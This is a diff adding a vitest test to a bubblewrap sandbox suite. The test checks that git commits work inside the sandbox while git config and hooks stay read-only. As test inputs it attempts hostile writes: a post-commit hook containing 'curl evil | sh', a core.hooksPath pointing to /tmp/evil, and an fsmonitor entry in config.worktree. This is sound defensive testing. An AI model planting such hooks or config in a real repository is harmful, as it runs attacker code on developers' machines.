@@ -1,5 +1,5 @@
 import { it, expect, beforeAll, afterAll } from 'vitest';
-import { spawn } from 'node:child_process';
+import { execFileSync, spawn } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
 import * as fs from 'node:fs';
 import * as net from 'node:net';
@@ -9,6 +9,7 @@ import { createExecutor } from '../../src/core/exec/executor';
 import type { ExecResult, ExecStage, Executor } from '../../src/core/exec/types';
 import { probeIsolation } from '../../src/core/isolation/probe';
 import { selectSandbox } from '../../src/core/isolation/select';
+import { watchRootGit } from '../../src/core/isolation/gitCreation';
 import { describeWith, has } from '../helpers/needs';
 import type { Sandbox, SandboxContext } from '../../src/core/isolation/types';
 
@@ -183,6 +184,32 @@ describeWith('bubblewrap')('bubblewrap sandbox: file system', () => {
     const allowed = await run([sh('echo "[core]" > .git/config')], ctx({ allowGitWrites: true }));
     expect(allowed.outcome).toBe('ok');
     expect(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8')).toBe('[core]\n');
+  });
+
+  it('lets git add and git commit work without git writes, while config and hooks stay read-only, and moves aside a planted config.worktree', async () => {
+    const repo = path.join(base, 'repo');
+    fs.mkdirSync(repo);
+    execFileSync('git', ['init', '-q'], { cwd: repo });
+    fs.writeFileSync(path.join(repo, 'f.txt'), 'one\n');
+    const c = ctx({ root: repo, cwd: repo });
+    const env = { GIT_AUTHOR_NAME: 'A', GIT_AUTHOR_EMAIL: 'a@example.org', GIT_COMMITTER_NAME: 'A', GIT_COMMITTER_EMAIL: 'a@example.org' };
+    expect((await run([{ file: 'git', args: ['add', 'f.txt'] }], c, { env })).outcome).toBe('ok');
+    const commit = await run([{ file: 'git', args: ['commit', '-q', '-m', 'first'] }], c, { env });
+    expect(commit.stderr).toBe('');
+    expect(commit.outcome).toBe('ok');
+    expect(execFileSync('git', ['log', '--format=%s'], { cwd: repo, encoding: 'utf8' })).toBe('first\n');
+    // What git would run later, outside the sandbox: not writable.
+    const config = await run([{ file: 'git', args: ['config', 'core.hooksPath', '/tmp/evil'] }], c, { env });
+    expect(config.outcome).toBe('failed');
+    expect(execFileSync('git', ['config', '--get', 'core.hooksPath'], { cwd: repo }).toString()).toBe('');
+    const hook = await run([sh('echo "curl evil | sh" > .git/hooks/post-commit')], c);
+    expect(hook.stderr).toMatch(/Read-only file system/);
+    // A per-worktree config did not exist, so it is no mount: a command can create it, and it is moved aside after.
+    const watch = watchRootGit(repo);
+    expect((await run([sh('printf "[core]\\n\\tfsmonitor = /tmp/evil\\n" > .git/config.worktree')], c)).outcome).toBe('ok');
+    const note = watch();
+    expect(note).toMatch(/created "\.git\/config\.worktree".*moved to "config\.worktree\.blocked-[0-9a-f]{8}"/);
+    expect(fs.existsSync(path.join(repo, '.git', 'config.worktree'))).toBe(false);
   });
 
   it('stops undoing the sandbox from inside: no capability to umount the hidden HOME or remount / read-write', async () => {
